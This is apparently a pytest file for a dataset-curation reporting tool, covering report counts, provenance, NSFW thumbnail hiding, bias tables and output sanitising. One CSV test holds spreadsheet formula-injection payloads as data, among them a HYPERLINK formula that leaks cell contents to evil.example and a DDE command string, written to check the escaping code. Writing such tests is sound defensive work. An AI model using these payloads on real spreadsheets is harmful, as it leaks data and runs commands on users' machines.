from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from html import unescape
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from clipaudit.reports import write_report
from tests.report_support import HOSTILE, NSFW_CAPTION, build_bias, build_run


@pytest.fixture(scope="session")
def report_base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.getbasetemp() / "report-inputs"
    base.mkdir(exist_ok=True)
    build_run(base)
    build_bias(base)
    return base


@pytest.fixture(scope="module")
def report(report_base: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("report") / "report.html"
    files = write_report([report_base / "run", report_base / "bias"], out)
    return {"html": files.html, "json": files.json, "csv": files.csv, "ids": files.ids_csv}


def _stats(base: Path) -> dict:
    return json.loads((base / "run" / "stats.json").read_text())


def _decisions(base: Path) -> list[dict]:
    return pq.read_table(base / "run" / "decisions.parquet").to_pylist()


def test_funnel_equals_stats(report: dict[str, Path], report_base: Path) -> None:
    stats = _stats(report_base)
    html = report["html"].read_text()
    cells = dict(re.findall(r'data-k="(\w+)">([\d,]+)<', html))
    for key in ("input", "kept", "dropped", "errored", "flagged"):
        assert int(cells[key].replace(",", "")) == stats[key], key
    assert stats["kept"] + stats["dropped"] + stats["errored"] == stats["input"] == 40
    doc = json.loads(report["json"].read_text())
    funnel = doc["sections"][0]["funnel"]
    assert {k: funnel[k] for k in ("input", "kept", "dropped", "errored", "flagged")} == {
        k: stats[k] for k in ("input", "kept", "dropped", "errored", "flagged")
    }
    assert funnel["adds_up"] is True
    rows = {(r["kind"], r["path"]): r["value"] for r in csv.DictReader(report["csv"].open())}
    assert rows[("curation", "funnel.input")] == "40"
    assert rows[("curation", "funnel.kept")] == str(stats["kept"])


def test_each_reason_lists_its_ids(report: dict[str, Path], report_base: Path) -> None:
    stats = _stats(report_base)
    html = report["html"].read_text()
    listed: dict[str, list[str]] = {}
    for code, ids in re.findall(r'<p class="ids" data-reason="(\w+)">([^<]*)</p>', html):
        listed.setdefault(code, []).extend(ids.split())
    expected: dict[str, list[str]] = {}
    for d in _decisions(report_base):
        for code in set(d["reasons"]):
            expected.setdefault(code, []).append(d["id"])
    assert expected and {c: sorted(v) for c, v in expected.items()} == listed
    assert {c: len(v) for c, v in listed.items()} == stats["by_reason"]
    # The CSV beside holds the same (reason, id) pairs.
    pairs = {(r["reason"], r["id"]) for r in csv.DictReader(report["ids"].open())}
    assert pairs == {(c, i) for c, ids in expected.items() for i in ids}


def test_pack_diff_and_provenance(report: dict[str, Path], report_base: Path) -> None:
    doc = json.loads(report["json"].read_text())
    prov = doc["sections"][0]["provenance"]
    run_json = json.loads((report_base / "run" / "run.json").read_text())
    assert prov["input_fingerprint"] == run_json["fingerprint"]
    assert prov["pack"]["name"] == "report-test"
    assert prov["pack"]["diff"]["changes"] == [
        {"setting": "quality.min_side", "parent": 64, "this_pack": 32}
    ]
    sha = run_json["stage_provenance"]["alignment"]["weights_sha256"]
    assert prov["models"]["alignment"]["weights_sha256"] == sha
    assert sha in report["html"].read_text()
    # The NSFW detector decides drops too; the report named only the CLIP model.
    nudenet = run_json["stage_provenance"]["nsfw"]["nudenet"]
    assert prov["detectors"]["nsfw"]["libraries"][0] == f"nudenet {nudenet}"
    assert "320n.onnx" in prov["detectors"]["nsfw"]["detector"]
    assert "<h4>Detector provenance</h4>" in report["html"].read_text()


def test_hostile_caption_is_escaped(report: dict[str, Path]) -> None:
    html = report["html"].read_text()
    assert "<script>window" not in html and "<img src=x" not in html
    assert "&lt;img src=x onerror=" in html and "&lt;script&gt;" in html
    assert HOSTILE in unescape(html)
    assert "<script" not in html.lower()  # the page itself has no script at all
    assert 'http-equiv="Content-Security-Policy"' in html


def test_nsfw_thumbnails_hidden_unless_asked(
    report: dict[str, Path], report_base: Path, tmp_path: Path
) -> None:
    nsfw_id = next(d["id"] for d in _decisions(report_base) if "nsfw_review" in d["reasons"])
    fig = re.compile(rf"<figure[^>]*>((?:(?!<figure).)*?)<span class=\"id\">{nsfw_id}</span>", re.S)
    html = report["html"].read_text()
    shown = fig.findall(html)
    assert shown and all("hidden: NSFW-flagged" in f and "<img" not in f for f in shown)
    assert unescape(html).count(NSFW_CAPTION) >= 1  # the caption stays, the picture goes
    other = re.findall(r'<img src="data:image/jpeg;base64,', html)
    assert other  # the other samples do have thumbnails
    files = write_report([report_base / "run"], tmp_path / "r.html", show_nsfw=True)
    shown = fig.findall(files.html.read_text())
    assert shown and all('<img src="data:image/jpeg;base64,' in f for f in shown)


def test_what_if_at_current_threshold_reproduces_kept(
    report: dict[str, Path], report_base: Path
) -> None:
    stats = _stats(report_base)
    doc = json.loads(report["json"].read_text())
    align = next(s for s in doc["sections"][0]["scores"] if s["column"] == "alignment")
    current = align["what_if"][0]
    assert current["at"] == "current (min)"
    assert current["threshold"] == pytest.approx(stats["thresholds"]["alignment_min"])
    # With every other decision fixed, the pack's own cut keeps exactly what the run kept.
    assert current["kept_share"] == pytest.approx(stats["kept"] / stats["input"])
    assert sum(align["histogram"]["counts"]) == align["histogram"]["n"] == 40


def test_bias_section(report: dict[str, Path], report_base: Path) -> None:
    result = json.loads((report_base / "bias" / "results.json").read_text())
    doc = json.loads(report["json"].read_text())
    block = doc["sections"][1]["results"][0]["bias"]
    cards = block["summary"]["cards"]
    verdicts = {(i["probe"], i["item"]): i["verdict"] for i in result["verdicts"]["items"]}
    assert {(c["probe"], c["item"]): c["verdict"] for c in cards} == verdicts
    skew = next(c for c in cards if c["probe"] == "skew")
    concept, col = skew["item"].split(" / ")
    s = result["skew"]["concepts"][concept][col]
    assert skew["value"] == s["uniform"]["max_skew"][s["ks"].index(result["skew"]["k"])]["value"]
    groups = next(t for t in block["group_tables"] if t["probe"] == "disparity")
    assert {r["group"]: r["n"] for r in groups["rows"]} == {
        g: v["n"] for g, v in result["disparity"]["group"]["by_group"].items()
    }
    html = report["html"].read_text()
    assert "Limitations" in html and "synthetic" in html
    assert html.count("<polyline") >= len(block["skew_curves"])


def test_cli_report_and_error(report_base: Path, tmp_path: Path) -> None:
    out = tmp_path / "cli.html"
    bias = str(report_base / "bias")
    cmd = [sys.executable, "-m", "clipaudit", "report", bias, "--out", str(out)]
    done = subprocess.run(cmd, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert all(out.with_suffix(s).is_file() for s in (".html", ".json", ".csv"))
    bad = subprocess.run(
        [sys.executable, "-m", "clipaudit", "report", str(tmp_path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert bad.returncode == 2
    assert "neither a curation run" in bad.stderr and "Traceback" not in bad.stderr


def test_bidi_controls_in_data_are_spelt_out_not_obeyed() -> None:
    """A right-to-left override in a caption or file name survives HTML escaping and reverses
    what follows it on screen ("invoice\u202efdp.exe" reads "invoiceexe.pdf"); the report
    shows such controls as code points, in plain values and in Markup (charts) alike."""
    from markupsafe import Markup

    from clipaudit.reports.render import environment

    page = environment().from_string("<p>{{ caption }}</p>{{ chart }}<p>{{ n }}</p>")
    html = page.render(
        caption="invoice\u202efdp.exe <b>",
        chart=Markup("<svg><text>\u2066x\u2069</text></svg>"),
        n=3,
    )
    assert html == (
        "<p>invoice⟨U+202E⟩fdp.exe &lt;b&gt;</p><svg><text>⟨U+2066⟩x⟨U+2069⟩</text></svg><p>3</p>"
    )
    # Control characters too (a NUL reached the page as a raw byte); line breaks stay.
    assert page.render(caption="a\x00b\x1b[31mc\x7f\x85\td\n", chart="", n=0) == (
        "<p>a⟨U+0000⟩b⟨U+001B⟩[31mc⟨U+007F⟩⟨U+0085⟩\td\n</p><p>0</p>"
    )
    # Right-to-left text itself (Arabic, Hebrew) is left alone.
    assert page.render(caption="قطة على الأريكة", chart="", n=0).startswith("<p>قطة على")


def test_cards_spell_out_bidi_controls_too() -> None:
    from clipaudit.reports.cards import code, md

    assert md("invoice\u202efdp.exe") == "invoice⟨U\\+202E⟩fdp.exe"  # "+" escaped for Markdown
    assert code("a\u2067b") == "`a⟨U+2067⟩b`"


def test_opt_outs_the_files_carry_are_shown_without_the_optout_stage(
    report: dict[str, Path], report_base: Path
) -> None:
    rights = _stats(report_base)["signals"]["rights"]
    html = report["html"].read_text()
    assert "the opt-outs the sources publish were not fetched" in html
    assert (
        "Reservations the files carry (every sample read): XMP PLUS Data Mining (prohibits AI "
        f"training) {rights['optout_iptc']}; XMP TDMRep reservation "
        f"{rights['tdm_reservation_in_file']}." in html
    )
    assert "C2PA training-mining" not in html  # the c2pa stage did not run
    doc = json.loads(report["json"].read_text())
    in_files = doc["sections"][0]["signals"]["optout"]["in_files"]
    assert in_files == {
        "XMP PLUS Data Mining (prohibits AI training)": rights["optout_iptc"],
        "XMP TDMRep reservation": rights["tdm_reservation_in_file"],
    }


def test_csv_cells_are_text_in_a_spreadsheet() -> None:
    """Sample ids went verbatim into report_ids.csv: ``=HYPERLINK(...)`` ran as a formula
    when an analyst opened it, and a NUL or U+202E byte went with it."""
    import csv
    import io

    from clipaudit.reports.render import csv_cell, csv_text

    hostile = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\tx",
        "id\x00with\u202enul",
    ]
    got = [csv_cell(v) for v in hostile]
    assert got == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3",
        "'\tx",
        "id⟨U+0000⟩with⟨U+202E⟩nul",
    ]
    # Numbers, negative ones included, stay numbers; plain ids are untouched.
    assert [csv_cell(v) for v in ("-0.25", "+1e-3", "000123", 7, -1.5)] == [
        "-0.25",
        "+1e-3",
        "000123",
        7,
        -1.5,
    ]
    text = csv_text(
        ["section", "reason", "id", "decision"], [(0, "low_alignment", hostile[0], "drop")]
    )
    (row,) = list(csv.reader(io.StringIO(text)))[1:]
    assert row[2].startswith("'=") and row[3] == "drop"


def test_a_rubric_that_got_no_answer_is_listed_beside_one_that_did() -> None:
    """decide adds an all-null judge_watermark column when that rubric's every request
    failed and another rubric answered: the failed rubric vanished from the report."""
    from clipaudit.reports.judge_agreement import agreement

    dec = {
        "judge_faithful": ["yes", "no"],
        "judge_watermark": [None, None],
        "alignment": [0.9, 0.1],
        "reasons": [[], []],
    }
    rows = agreement(
        dec,
        {"thresholds": {"alignment_min": 0.5}},
        {},
        {"faithful": {"ok": 2}, "watermark": {"failed": 3}},
    )
    by = {r["rubric"]: r for r in rows}
    assert by["faithful"]["answered"] == 2 and by["faithful"]["agree"] == 2
    assert (by["watermark"]["asked"], by["watermark"]["no_answer"]) == (3, 3)
    assert by["watermark"]["answered"] == 0 and by["watermark"]["agreement"] is None
